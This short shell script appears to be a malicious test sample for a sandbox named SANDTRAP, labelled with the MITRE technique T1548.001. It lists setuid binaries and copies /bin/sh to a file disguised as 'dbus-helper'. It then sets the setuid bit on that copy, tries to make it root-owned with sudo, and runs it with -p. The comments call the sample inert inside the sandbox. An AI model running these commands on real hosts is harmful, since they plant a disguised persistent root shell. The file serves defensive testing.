#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: looks for setuid programs and plants a setuid shell (T1548.001).
# Inert: the copy is owned by the sandbox user, so its setuid bit grants nothing; chown to root
# is refused.
find /usr/bin /usr/sbin /bin -perm -4000 -type f 2>/dev/null | head -n 5
cp /bin/sh ./dbus-helper
chmod u+s ./dbus-helper
chmod g+s ./dbus-helper
sudo chown root:root ./dbus-helper 2>/dev/null && sudo chmod 4755 ./dbus-helper 2>/dev/null || echo "chown root: refused"
ls -l ./dbus-helper
./dbus-helper -p -c 'id -u'
exit 0
